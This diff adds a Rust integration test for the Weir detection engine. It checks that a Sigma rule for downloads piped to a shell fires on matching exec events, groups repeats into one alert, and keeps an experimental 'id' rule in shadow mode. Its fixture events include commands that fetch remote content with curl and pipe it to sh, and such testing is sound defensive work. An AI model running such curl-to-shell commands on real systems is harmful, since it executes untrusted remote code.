@@ -1,0 +1,97 @@
+//! The detection stage over real Weir events: a Sigma rule written the way a
+//! security team writes it fires on a matching exec, not on others, folds
+//! repeats into one alert, and staged (experimental) rules stay in shadow.
+
+use weir_detect::{AlertQuery, AlertStore, DetectConfig, Detector, Mode};
+use weir_event::{event::Body, Event, Exec, Process};
+
+const RULE: &str = r#"
+title: Download piped to a shell
+id: 6f0c5d38-2a41-4f0e-9a3a-0d9f0c1a7b11
+status: stable
+level: high
+author: Weir tests
+logsource:
+  product: linux
+  category: process_creation
+detection:
+  selection:
+    Image|endswith: '/sh'
+    CommandLine|contains|all:
+      - 'curl'
+      - '| sh'
+  condition: selection
+"#;
+
+const SHADOW_RULE: &str = r#"
+title: Any id command
+id: 0b7e3c1e-55d2-4b6a-8d55-1f3a7c2e9d00
+status: experimental
+level: low
+logsource:
+  product: linux
+  category: process_creation
+detection:
+  selection:
+    Image|endswith: '/id'
+  condition: selection
+"#;
+
+fn exec(seq: u64, exe: &str, args: &[&str]) -> Event {
+    Event {
+        seq,
+        time_unix_ns: 1_800_000_000_000_000_000 + seq,
+        host_id: "host-a".into(),
+        process: Some(Process {
+            pid: 100 + seq as u32,
+            executable: exe.into(),
+            args: args.iter().map(|a| a.as_bytes().to_vec()).collect(),
+            loginuid: 1000,
+            login_name: "alice".into(),
+            ..Default::default()
+        }),
+        body: Some(Body::Exec(Exec::default())),
+        ..Default::default()
+    }
+}
+
+#[test]
+fn matching_execs_become_one_alert_and_staged_rules_stay_in_shadow() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules_dir = dir.path().join("rules");
+    std::fs::create_dir(&rules_dir).unwrap();
+    std::fs::write(rules_dir.join("curl_sh.yml"), RULE).unwrap();
+    std::fs::write(rules_dir.join("id.yml"), SHADOW_RULE).unwrap();
+    let (rules, report) = weir_rules::RuleSet::load_paths(&[rules_dir]);
+    assert!(report.errors.is_empty(), "{:?}", report.errors);
+    assert_eq!(rules.rules().len(), 2);
+
+    let alerts = dir.path().join("alerts.db");
+    let detector = Detector::start(rules, &alerts, DetectConfig::default()).unwrap();
+    let events = vec![
+        exec(1, "/usr/bin/sh", &["sh", "-c", "curl -s http://x/y | sh"]),
+        exec(2, "/usr/bin/sh", &["sh", "-c", "echo curl"]),
+        exec(3, "/usr/bin/sh", &["sh", "-c", "curl -fsSL http://x/z | sh"]),
+        exec(4, "/usr/bin/id", &["id"]),
+    ];
+    detector.submit("host-a", 7, &events);
+    detector.stop();
+
+    let store = AlertStore::open(&alerts).unwrap();
+    let listed = store.list(&AlertQuery::default()).unwrap();
+    assert_eq!(listed.len(), 2, "{listed:#?}");
+    let curl = listed
+        .iter()
+        .find(|a| a.rule_title == "Download piped to a shell")
+        .unwrap();
+    assert_eq!(
+        (curl.count, curl.mode, curl.actor.as_str(), curl.host_id.as_str()),
+        (2, Mode::Alert, "alice", "host-a")
+    );
+    assert_eq!(
+        store.evidence(curl.id).unwrap(),
+        vec![("host-a".into(), 1, 7), ("host-a".into(), 3, 7)]
+    );
+    let id = listed.iter().find(|a| a.rule_title == "Any id command").unwrap();
+    assert_eq!(id.mode, Mode::Shadow);
+}
